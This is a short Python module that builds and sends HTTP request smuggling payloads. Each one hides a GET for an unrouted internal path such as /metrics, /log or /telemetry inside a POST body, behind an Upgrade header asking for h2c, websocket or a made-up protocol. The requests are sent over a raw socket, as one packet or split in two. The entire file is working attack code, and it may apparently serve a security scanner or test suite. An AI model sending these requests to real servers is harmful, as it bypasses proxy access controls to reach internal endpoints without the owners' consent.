"""Requests that hide another one in their body, behind a header that asks for another protocol."""

import socket
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import urlsplit

HIDDEN = ("/metrics", "/log", "/v2/repository/index", "/emptyLog", "/telemetry", "/smuggled")
PROTOCOLS = ("h2c", "websocket", "made-up")


def attacks(host: str, body_path: str = "/stream") -> Iterator[list[bytes]]:
    """Yield requests, as packets, whose body is a request for a path that is not routed."""
    for path in HIDDEN:
        for protocol in PROTOCOLS:
            for in_packets in (1, 2):
                hidden = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Request-Id: hidden\r\n\r\n".encode()
                head = (
                    f"POST {body_path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
                    f"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: {protocol}\r\n"
                    "HTTP2-Settings: AAMAAABk\r\n"
                    f"Content-Length: {len(hidden)}\r\n\r\n"
                ).encode()
                yield [head + hidden] if in_packets == 1 else [head, hidden]


def send(url: str, packets: list[bytes], seconds: float = 1.0) -> bytes:
    """Send packets on a new connection, and return all that comes back until it closes or is silent."""
    address = urlsplit(url)
    received = b""
    with socket.create_connection(
        (address.hostname or "", address.port or 80), timeout=seconds
    ) as connection:
        for packet in packets:
            connection.sendall(packet)
        with suppress(TimeoutError, ConnectionError):
            while part := connection.recv(65536):
                received += part
    return received
